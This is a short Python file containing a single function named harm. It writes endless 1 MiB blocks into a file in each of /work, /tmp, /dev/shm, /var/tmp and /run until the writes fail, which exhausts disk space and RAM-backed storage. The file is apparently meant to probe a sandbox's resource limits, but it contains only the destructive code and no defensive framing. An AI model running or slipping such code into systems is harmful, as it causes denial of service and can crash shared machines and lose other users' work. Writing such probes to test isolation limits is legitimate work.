import os


def harm():
    last = None
    for folder in ('/work', '/tmp', '/dev/shm', '/var/tmp', '/run'):
        try:
            with open(os.path.join(folder, 'full'), 'wb') as file:
                while True:
                    file.write(b'x' * (1 << 20))
        except OSError as error:
            last = error
    raise last
